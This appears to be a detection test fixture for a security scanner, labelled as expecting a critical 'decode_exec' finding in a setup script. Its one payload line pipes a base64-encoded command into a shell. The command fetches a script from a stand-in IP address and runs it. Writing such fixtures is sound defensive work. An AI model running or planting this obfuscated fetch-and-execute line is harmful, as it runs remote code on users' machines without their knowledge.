# expect: shell.decode_exec critical
# note: issue 10: a payload hidden in base64, decoded and piped into a shell
# path: scripts/setup.sh
echo Y3VybCAtZnNTTCBodHRwczovLzIwMy4wLjExMy45L2kuc2ggfCBzaA== | base64 -d | sh
